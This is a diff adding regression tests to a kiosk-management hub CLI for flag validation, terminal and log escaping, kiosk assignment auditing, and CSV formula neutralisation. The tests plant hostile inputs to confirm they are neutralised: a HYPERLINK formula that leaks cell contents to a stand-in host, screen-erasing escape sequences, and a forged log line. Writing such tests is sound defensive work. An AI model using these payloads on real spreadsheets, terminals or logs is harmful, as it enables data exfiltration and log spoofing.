@@ -6,17 +6,23 @@ import csv
 import datetime as dt
 import io
 import json
+import logging
 import stat
 from pathlib import Path
 
 import pytest
+import sqlalchemy as sa
 from click.testing import CliRunner
 
 from hub.cli import main
 from hub.db import Database, open_database
+from hub.flags import import_registry_changes
 from hub.fleet import record_status
 from hub.ingest import store_events
-from hub.schema import migrate
+from hub.operators import AuthError, login
+from hub.schema import audit_log, migrate
+from kiosk.clitools import EscapingFilter, escape_text, json_text
+from provisioning.registry import KioskRecord, KioskRegistry
 from tests.hub.factory import T0, make_event
 
 PERSON = "001234567890"
@@ -95,6 +101,21 @@ def test_flags_add_list_lift_and_bad_input(hub_config: Path) -> None:
     assert all(a["actor"].startswith("cli:") for a in audit)
 
 
+def test_flags_add_refuses_bad_targets_and_dead_letters_raise_an_alarm(hub_config: Path) -> None:
+    full_width = "\uff10" * 12
+    assert "12-digit" in run(hub_config, "flags", "add", full_width, "--status", "F0", ok=False)
+    assert "hex" in run(hub_config, "flags", "add", "zz", "--kind", "pass", "--status", "revoked", ok=False)
+    assert "12-digit" in run(hub_config, "flags", "lift", full_width, ok=False)
+    db = db_of(hub_config)
+    bad = {"version": 1, "target_kind": "pass", "target": "zz", "status": "revoked"}
+    import_registry_changes(db, 1, [bad], now=T0)
+    db.dispose()
+    rows = json.loads(run(hub_config, "flags", "dead-letters", "--json"))
+    assert [(r["source"], r["version"]) for r in rows] == [("registry", 1)] and "hex" in rows[0]["reason"]
+    assert "WARNING: 1 flag change(s) could not be sent" in run(hub_config, "kiosks")
+    assert "WARNING: 1 flag change(s)" in run(hub_config, "flags", "list")
+
+
 def test_trace_person_and_contacts_are_audited(hub_config: Path) -> None:
     seed(hub_config)
     window = ["--from", "2026-11-20", "--to", "2026-11-22"]
@@ -109,6 +130,59 @@ def test_trace_person_and_contacts_are_audited(hub_config: Path) -> None:
     assert [a["action"] for a in audit] == ["trace.contacts", "trace.contacts", "trace.person"]
     assert audit[-1]["detail"]["id"] == PERSON
     assert "--window" in run(hub_config, "trace", "contacts", PERSON, "--window", "soon", ok=False)
+
+
+ESCAPE_NAME = "\x1b[K\x1b[ANGUYEN\u202eVAN\x9b2J A"  # erase line, cursor up, RTL override, C1 CSI
+RAW_CONTROLS = ("\x1b", "\u202e", "\x9b")
+
+
+def test_cli_output_escapes_what_came_from_outside(hub_config: Path) -> None:
+    """Issue 12 item 4: a recorded name `\\x1b[K\\x1b[A...` erased the real contact's row in a terminal,
+    and a failed login with an escape-sequence username erased later rows of `hub audit`."""
+    seed(hub_config)
+    db = db_of(hub_config)
+    hostile = make_event(5, checkpoint="cp-1", at=T0 + dt.timedelta(minutes=5), id_number="079090000002")
+    hostile["subject"]["name"] = ESCAPE_NAME
+    store_events(db, [hostile], now=T0 + dt.timedelta(minutes=6))
+    record_status(db, "kiosk-1", {"state": "online", "version": "\x1b]0;owned\x07", "backlog": 0}, now=T0)
+    with pytest.raises(AuthError):
+        login(db, "\x1b[2J\x1b[Hadmin", "a wrong password", now=T0)
+    with db.begin() as conn:
+        actor = conn.execute(
+            sa.select(audit_log.c.actor).where(audit_log.c.action == "login.refused")
+        ).scalar()
+    assert actor == "\\x1b[2J\\x1b[Hadmin"  # stored escaped, not raw
+    db.dispose()
+    window = ["--from", "2026-11-20", "--to", "2026-11-22"]
+    outputs = {
+        "contacts": run(hub_config, "trace", "contacts", PERSON, *window),
+        "contacts-json": run(hub_config, "trace", "contacts", PERSON, *window, "--json"),
+        "kiosks": run(hub_config, "kiosks"),
+        "kiosks-json": run(hub_config, "kiosks", "--json"),
+        "audit": run(hub_config, "audit"),
+    }
+    for what, out in outputs.items():
+        assert not any(c in out for c in RAW_CONTROLS), what
+    assert "\\x1b[K\\x1b[ANGUYEN\\u202eVAN\\x9b2J A" in outputs["contacts"]
+    assert "\\x1b]0;owned\\x07" in outputs["kiosks"]
+    # JSON stays JSON, and reads back as exactly what was stored
+    names = {c["subject_name"] for c in json.loads(outputs["contacts-json"])}
+    assert ESCAPE_NAME in names
+    assert {k["software"] for k in json.loads(outputs["kiosks-json"])} >= {"\x1b]0;owned\x07"}
+
+
+def test_log_lines_escape_outside_text() -> None:
+    stream = io.StringIO()
+    handler = logging.StreamHandler(stream)
+    handler.addFilter(EscapingFilter())
+    logger = logging.getLogger("tests.escaping")
+    logger.addHandler(handler)
+    logger.propagate = False
+    try:
+        logger.warning("kiosk %s said %s", "kiosk-1", "ok\n2026-11-20 ERROR forged line\x1b[2K")
+    finally:
+        logger.removeHandler(handler)
+    assert stream.getvalue() == "kiosk kiosk-1 said ok\\n2026-11-20 ERROR forged line\\x1b[2K\n"
 
 
 def test_daily_report_csv_counts_by_checkpoint_verdict_and_local_hour(hub_config: Path) -> None:
@@ -146,6 +220,66 @@ def test_kiosks_shows_versions_and_marks_silent_kiosks_stale(hub_config: Path) -
     assert "online STALE" in run(hub_config, "kiosks")
 
 
+def test_daily_report_csv_cells_are_never_formulas(hub_config: Path) -> None:
+    """Issue 12 item 5: a kiosk planted `=HYPERLINK(...)` in the daily CSV (the dashboard's download too)."""
+    db = db_of(hub_config)
+    planted = [
+        '=HYPERLINK("http://x.example/?"&A1,"open")',
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "\tx",
+        "\rx",
+        "fine-code",
+    ]
+    store_events(db, [make_event(1, verdict="DENY", reasons=planted)], now=T0)
+    db.dispose()
+    out = run(hub_config, "report", "daily", "--date", "2026-11-20", "--format", "csv")
+    keys = [r["key"] for r in csv.DictReader(io.StringIO(out)) if r["dimension"] == "reason"]
+    assert sorted(keys) == sorted(
+        [
+            '\'=HYPERLINK("http://x.example/?"&A1,"open")',
+            "'+1",
+            "'-1",
+            "'@SUM(A1)",
+            "'\\tx",
+            "'\\rx",
+            "fine-code",
+        ]
+    )
+
+
+def test_kiosks_assign_and_import_from_the_provisioning_registry(hub_config: Path, tmp_path: Path) -> None:
+    registry = (
+        KioskRegistry(tmp_path / "prov" / "provision.db") if (tmp_path / "prov").mkdir() is None else None
+    )
+    assert registry is not None
+    for kiosk_id, checkpoint, status in (
+        ("kiosk-1", "cp-1", "active"),
+        ("kiosk-9", "cp-9", "decommissioned"),
+    ):
+        registry.enroll(KioskRecord(kiosk_id, checkpoint, "A", "", "self", "hub.vn", 8883, status=status))
+    assert "1 kiosks assigned" in run(hub_config, "kiosks", "import", str(tmp_path / "prov"))
+    assert "kiosk-2: cp-2 (zone HN-02)" in run(
+        hub_config, "kiosks", "assign", "kiosk-2", "cp-2", "--zone", "HN-02"
+    )
+    assert "checkpoint id" in run(hub_config, "kiosks", "assign", "kiosk-2", "cp-2\n", ok=False)
+    assert "no provisioning registry" in run(hub_config, "kiosks", "import", str(tmp_path), ok=False)
+    seed(hub_config)  # kiosk-1's events claim cp-1 (right), kiosk-2's claim cp-2 (right)
+    db = db_of(hub_config)
+    store_events(db, [make_event(9, kiosk="kiosk-2", checkpoint="cp-7")], now=T0, from_kiosk="kiosk-2")
+    db.dispose()
+    rows = {r["kiosk_id"]: r for r in json.loads(run(hub_config, "kiosks", "--json"))}
+    assert {k: (r["checkpoint_id"], r["assigned"], r["wrong_claims"]) for k, r in rows.items()} == {
+        "kiosk-1": ("cp-1", True, 0),
+        "kiosk-2": ("cp-2", True, 1),
+    }
+    assert [a["action"] for a in json.loads(run(hub_config, "audit", "--action", "kiosk", "--json"))] == [
+        "kiosk.assign",
+        "kiosk.import",
+    ]
+
+
 def test_passages_hide_names_and_mask_ids(hub_config: Path) -> None:
     seed(hub_config)
     rows = json.loads(run(hub_config, "passages", "--json"))
@@ -180,3 +314,12 @@ def test_the_example_hub_config_is_valid() -> None:
     config = load_hub_config(REPO_ROOT / "examples" / "hub.toml")
     assert config.mqtt.tls is not None and config.registry is not None
     assert config.mqtt.client_ids() == ["hub-ingest-1", "hub-flags"]
+
+
+def test_escaped_output_keeps_vietnamese_and_json_reads_back_the_same() -> None:
+    value = {"name": "Nguyễn Văn An", "x": "\x1b[2J\x9b\u202e\U000e0001\U0010fffd\n\t"}
+    text = json_text(value)
+    assert all(c.isprintable() or c == "\n" for c in text) and "Nguyễn Văn An" in text
+    assert json.loads(text) == value
+    assert escape_text(value["name"]) == "Nguyễn Văn An"
+    assert escape_text(value["x"]) == "\\x1b[2J\\x9b\\u202e\\U000e0001\\U0010fffd\\n\\t"
